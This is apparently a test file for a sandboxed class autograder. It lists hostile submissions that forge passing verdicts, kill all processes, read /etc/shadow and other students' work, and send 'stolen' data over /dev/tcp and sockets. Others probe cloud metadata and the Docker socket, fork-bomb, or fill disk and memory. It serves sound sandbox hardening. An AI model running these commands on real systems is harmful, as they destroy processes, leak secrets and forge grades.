/**
 * Submissions that mean harm, for a class in boxes: NEVER run them outside of one (one of them kills all that it may).
 * An attack that gets through ends its program with an error "got in", and so with another cause than its own.
 */

/** What an attack is aimed at; all paths absolute. */
export interface Targets {
  class: string;
  out: string;
  solutions: string;
  tutor: string;
  home: string;
  /** A port of 127.0.0.1, TCP and UDP, where somebody counts who comes. */
  port: number;
}

export interface Attack {
  /** The student's id. */
  id: string;
  /** What its row says: the cause, or one of several; "passed". */
  told: string;
  /** What stands above the app. */
  code: (targets: Targets) => string;
  /** The app below it: one that falls short, unless said; so a verdict that was forged would show. */
  app?: "right" | "none";
}

/** The cause of the app that falls short. */
const SHORT = "wrong-status";
const VERDICT = JSON.stringify({
  schema: 1,
  step: 4,
  name: "logout",
  passed: true,
  checks: [],
  diagnosis: [],
});
const fs = 'const fs = require("fs");\n';
const text = (value: unknown) => JSON.stringify(value);

/** Tries each of some statements; what throws has failed. */
const tries =
  (...statements: string[]) =>
  () =>
    fs + statements.map((statement) => `try { ${statement} } catch {}`).join("\n");

/** Ends the program with an error where one of some paths can be read. */
const mustNotRead = (paths: readonly string[]) => `
for (const path of ${text(paths)}) {
  let held = null;
  try { held = fs.statSync(path).isDirectory() ? fs.readdirSync(path).join() : fs.readFileSync(path, "utf8"); } catch {}
  if (held) throw new Error("got in: " + path);
}`;
const reads =
  (...paths: ((targets: Targets) => string)[]) =>
  (targets: Targets) =>
    fs + mustNotRead(paths.map((path) => path(targets)));

const forging: Attack[] = [
  {
    id: "writes-to-its-parent",
    told: SHORT,
    code: tries(`fs.writeFileSync("/proc/" + process.ppid + "/fd/1", ${text(VERDICT)})`),
  },
  {
    id: "writes-to-every-process",
    told: SHORT,
    code: () => `${fs}for (const pid of fs.readdirSync("/proc").filter((name) => name > 0 && name != process.pid))
  for (let fd = 0; fd < 12; fd++) try { fs.writeFileSync("/proc/" + pid + "/fd/" + fd, ${text(VERDICT)}); } catch {}`,
  },
  {
    id: "forges-and-kills-its-parent",
    told: SHORT,
    code: tries(
      `fs.writeFileSync("/proc/" + process.ppid + "/fd/1", ${text(VERDICT)})`,
      'process.kill(process.ppid, "SIGKILL")',
    ),
  },
  {
    id: "asks-its-parent-to-end",
    told: SHORT,
    code: tries('process.kill(process.ppid, "SIGTERM")', 'process.kill(process.ppid, "SIGINT")'),
  },
  { id: "stops-its-parent", told: SHORT, code: tries('process.kill(process.ppid, "SIGSTOP")') },
  // Node itself closes its inspector before such a signal, and so the store cannot be seen any more.
  {
    id: "signals-all-that-it-may",
    told: "store-not-pushed",
    code: tries('process.kill(-1, "SIGKILL")'),
  },
  {
    id: "kills-all-that-it-may",
    told: "crash-on-start",
    code: () => 'require("child_process").spawnSync("sh", ["-c", "kill -9 -1"]);',
  },
  {
    id: "kills-by-number",
    // One of the numbers is a thread of its own.
    told: "crash-on-start",
    code: () =>
      'for (let pid = 2; pid < 40000; pid++) if (pid !== process.pid) try { process.kill(pid, "SIGKILL"); } catch {}',
  },
  {
    id: "prints-a-verdict",
    told: SHORT,
    code: () => `console.log(${text(VERDICT)}); console.error(${text(VERDICT)});`,
  },
  {
    id: "prints-a-verdict-and-ends",
    told: "exits-early",
    code: () => `require("express")(); console.log(${text(VERDICT)}); process.exit(0);`,
    app: "none",
  },
  {
    id: "writes-rows",
    told: SHORT,
    code: ({ out }) =>
      tries(
        ...["results.ndjson", "grades.csv", "run.json"].map(
          (name) => `fs.appendFileSync(${text(`${out}/${name}`)}, "{}\\n")`,
        ),
      )(),
  },
  {
    id: "leaves-rows-beside-it",
    told: SHORT,
    code: tries(
      'fs.writeFileSync("results.ndjson", "{}")',
      'fs.writeFileSync("../results.ndjson", "{}")',
      'fs.mkdirSync("grades")',
    ),
  },
  {
    id: "writes-its-parents-memory",
    told: SHORT,
    code: tries(
      'const memory = fs.openSync("/proc/" + process.ppid + "/mem", "r+"); fs.writeSync(memory, "x", 4096); throw 0;',
    ),
  },
  {
    id: "speaks-on-the-channel",
    told: `${SHORT}|channel-closed`,
    code: () => `${fs}for (let fd = 3; fd < 9; fd++) for (const line of ['{"say":"up","port":1}', '{"say":"answer","id":1,"n":1,"answer":true}'])
  try { fs.writeSync(fd, line + "\\n"); } catch {}`,
  },
  {
    id: "closes-the-channel",
    told: "channel-closed",
    code: () => `${fs}for (let fd = 3; fd < 5; fd++) try { fs.closeSync(fd); } catch {}`,
  },
];

const reading: Attack[] = [
  {
    id: "reads-the-solutions",
    told: SHORT,
    code: reads(
      ({ solutions }) => solutions,
      ({ solutions }) => `${solutions}/4-logout.js`,
    ),
  },
  {
    id: "reads-the-steps-of-the-tutor",
    told: SHORT,
    code: reads(
      ({ tutor }) => `${tutor}/src`,
      ({ tutor }) => `${tutor}/steps`,
      ({ tutor }) => `${tutor}/dist/steps.cjs`,
    ),
  },
  {
    id: "reads-others",
    told: SHORT,
    code: reads(
      (targets) => targets.class,
      ({ class: folder }) => `${folder}/ada.js`,
      () => "../../ada.js",
    ),
  },
  {
    id: "reads-the-grades",
    told: SHORT,
    code: reads(
      ({ out }) => out,
      ({ out }) => `${out}/results.ndjson`,
    ),
  },
  {
    id: "reads-through-its-parent",
    told: SHORT,
    code: ({ class: folder }) =>
      fs + mustNotRead([1, 2].flatMap((pid) => [`/proc/${pid}/root${folder}`, `/proc/${pid}/cwd/ada.js`])),
  },
  {
    id: "reads-the-system",
    told: SHORT,
    code: reads(
      () => "/etc/passwd",
      () => "/etc/shadow",
      () => "/root",
      () => "/home",
      () => "/var",
      ({ home }) => home,
    ),
  },
  {
    id: "reads-the-teachers-environment",
    told: SHORT,
    code: () => `${fs}for (const pid of fs.readdirSync("/proc").filter((name) => name > 0)) {
  let held = ""; try { held = fs.readFileSync("/proc/" + pid + "/environ", "utf8"); } catch {}
  if (held.includes("TEACHERS_SECRET")) throw new Error("got in");
}`,
  },
  {
    id: "loads-a-solution",
    told: SHORT,
    code: ({ solutions }) =>
      `let loaded = false; try { require(${text(`${solutions}/4-logout.js`)}); loaded = true; } catch {}\nif (loaded) throw new Error("got in");`,
  },
  {
    id: "links-to-others",
    told: SHORT,
    code: (targets) =>
      `${fs}try { fs.symlinkSync(${text(targets.class)}, "others"); } catch {}\n${mustNotRead(["others", "others/ada.js"])}`,
  },
  {
    id: "links-hard",
    told: SHORT,
    code: (targets) =>
      `${fs}try { fs.linkSync(${text(`${targets.class}/ada.js`)}, "hers.js"); } catch {}\n${mustNotRead(["hers.js"])}`,
  },
  {
    id: "mounts-the-machine",
    told: SHORT,
    code: (targets) =>
      `${fs}require("child_process").spawnSync("sh", ["-c", "mkdir m; mount --bind / m; unshare -r -m mount --bind / m; nsenter -t 1 -m true"]);\n${mustNotRead([`m${targets.class}`])}`,
  },
];

const connects = (address: string) =>
  `require("net").connect(${address}).on("error", () => {}).on("connect", () => { throw new Error("got in"); });`;
const talking: Attack[] = [
  { id: "connects", told: SHORT, code: ({ port }) => connects(`${port}, "127.0.0.1"`) },
  { id: "connects-over-ipv6", told: SHORT, code: ({ port }) => connects(`${port}, "::1"`) },
  {
    id: "connects-to-the-world",
    told: SHORT,
    code: () =>
      connects('{ host: "1.1.1.1", port: 443 }') + connects('{ host: "169.254.169.254", port: 80 }'),
  },
  {
    id: "fetches",
    told: SHORT,
    code: ({ port }) => `fetch("http://127.0.0.1:${port}/?stolen").then(() => process.exit(9), () => {});`,
  },
  {
    id: "sends-by-udp",
    told: SHORT,
    code: ({ port }) =>
      `require("dgram").createSocket("udp4").on("error", () => {}).send("stolen", ${port}, "127.0.0.1", () => {});`,
  },
  {
    id: "asks-for-a-name",
    told: SHORT,
    code: () => 'require("dns").lookup("example.com", (error) => { if (!error) process.exit(9); });',
  },
  {
    id: "connects-what-it-inherits",
    told: SHORT,
    code: ({ port }) => `for (const fd of [6, 7]) try {
  const socket = new (require("net").Socket)({ fd }); socket.on("error", () => {}); socket.connect(${port}, "127.0.0.1");
} catch {}`,
  },
  {
    id: "sends-a-child-out",
    told: SHORT,
    code: ({ port }) =>
      `require("child_process").spawnSync("bash", ["-c", "echo stolen > /dev/tcp/127.0.0.1/${port}; echo stolen > /dev/udp/127.0.0.1/${port}"]);`,
  },
  {
    id: "speaks-to-services",
    told: SHORT,
    code: () =>
      ["/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]
        .map((path) => connects(text(path)))
        .join("\n"),
  },
];

const spawns = (program: string, words: string[], more = "") =>
  `require("child_process").spawn(${text(program)}, ${text(words)}, { detached: true, ${more} })`;
const multiplying: Attack[] = [
  {
    id: "forks-without-end",
    told: "too-many-processes",
    code: () =>
      `setInterval(() => { for (let n = 0; n < 9; n++) ${spawns("sleep", ["1000"], 'stdio: "ignore"')}.on("error", () => {}); }, 1);`,
  },
  {
    id: "leaves-a-daemon",
    told: "passed",
    code: () => `${spawns("sleep", ["1000"], 'stdio: "ignore"')}.unref();`,
    app: "right",
  },
  {
    id: "leaves-one-without-environment",
    told: "passed",
    code: () =>
      `${spawns("sh", ["-c", "setsid sleep 1000 & setsid sleep 1000"], 'env: {}, stdio: "ignore"')}.unref();`,
    app: "right",
  },
  {
    id: "leaves-one-that-holds-its-output",
    told: "passed",
    code: () => `${spawns("sleep", ["1000"], 'stdio: "inherit"')}.unref();`,
    app: "right",
  },
  {
    id: "leaves-one-that-ignores-signals",
    told: "passed",
    code: () =>
      `${spawns("sh", ["-c", "trap '' TERM INT HUP QUIT; while :; do sleep 1; done"], 'stdio: "ignore"')}.unref();`,
    app: "right",
  },
];

const filling: Attack[] = [
  {
    id: "fills-its-folder",
    told: "fills-the-disk",
    code: () =>
      `${fs}setInterval(() => { try { fs.appendFileSync("big-" + Math.random(), Buffer.alloc(32e6)); } catch {} }, 1);`,
  },
  {
    id: "fills-what-has-no-name",
    told: "fills-the-disk",
    code: () =>
      `${fs}setInterval(() => { try { const fd = fs.openSync("big", "w"); fs.unlinkSync("big"); fs.writeSync(fd, Buffer.alloc(32e6)); } catch {} }, 1);`,
  },
  {
    id: "fills-tmp",
    told: SHORT,
    code: () =>
      `${fs}try { for (let n = 0; n < 40; n++) fs.writeFileSync("/tmp/" + n, Buffer.alloc(1e6)); throw new Error("got in"); } catch (error) { if (error.code !== "ENOSPC") throw error; }`,
  },
  {
    id: "fills-shared-memory",
    told: SHORT,
    code: () =>
      `${fs}try { for (let n = 0; n < 40; n++) fs.writeFileSync("/dev/shm/" + n, Buffer.alloc(1e6)); throw new Error("got in"); } catch (error) { if (error.code !== "ENOSPC") throw error; }`,
  },
  {
    id: "fills-memory",
    told: "out-of-memory",
    code: () => "const kept = []; setInterval(() => kept.push(Buffer.alloc(64e6, 1)), 1);",
  },
];

const staying: Attack[] = [
  {
    id: "ignores-signals",
    told: "passed",
    code: () =>
      'for (const signal of ["SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGUSR2"]) process.on(signal, () => {});',
    app: "right",
  },
  {
    id: "loops-as-it-ends",
    told: "passed",
    code: () => 'process.on("exit", () => { for (;;); });',
    app: "right",
  },
  { id: "kills-itself", told: "crash-on-start", code: () => 'process.kill(process.pid, "SIGKILL");' },
  { id: "aborts", told: "crash-on-start", code: () => "process.abort();" },
];

const writing: Attack[] = [
  {
    id: "writes-to-others",
    told: SHORT,
    code: ({ class: folder }) =>
      tries(
        `fs.writeFileSync(${text(`${folder}/ada.js`)}, "")`,
        `fs.writeFileSync(${text(`${folder}/zoe.js`)}, "")`,
        'fs.writeFileSync("../../ada.js", "")',
        `fs.rmSync(${text(folder)}, { recursive: true })`,
      )(),
  },
  {
    id: "writes-into-the-tutor",
    told: SHORT,
    code: ({ tutor }) =>
      tries(
        ...["dist/guest/x.cjs", "bin/refresh-tutor.js", "node_modules/x.js", "dist/libraries/x"].map(
          (name) => `fs.writeFileSync(${text(`${tutor}/${name}`)}, ""); process.exit(9);`,
        ),
      )(),
  },
  {
    id: "writes-into-the-system",
    told: SHORT,
    code: tries(
      ...["/x", "/usr/bin/x", "/etc/x", "/home/x"].map(
        (path) => `fs.writeFileSync(${text(path)}, ""); process.exit(9);`,
      ),
    ),
  },
  {
    id: "leaves-what-is-hard-to-remove",
    told: "passed",
    code: tries(
      'fs.mkdirSync("deep/" + "d/".repeat(150), { recursive: true })',
      'fs.mkdirSync("shut"); fs.writeFileSync("shut/x", ""); fs.chmodSync("shut", 0)',
      'require("child_process").spawnSync("mkfifo", ["pipe"])',
      'fs.writeFileSync(Buffer.from([0x66, 0xff, 0x0a]), "")',
    ),
    app: "right",
  },
  {
    id: "shuts-its-folder",
    told: "passed",
    code: tries("fs.chmodSync('.', 0)", "fs.chmodSync('..', 0)"),
    app: "right",
  },
];

export const attacks: readonly Attack[] = [
  ...forging,
  ...reading,
  ...talking,
  ...multiplying,
  ...filling,
  ...staying,
  ...writing,
];
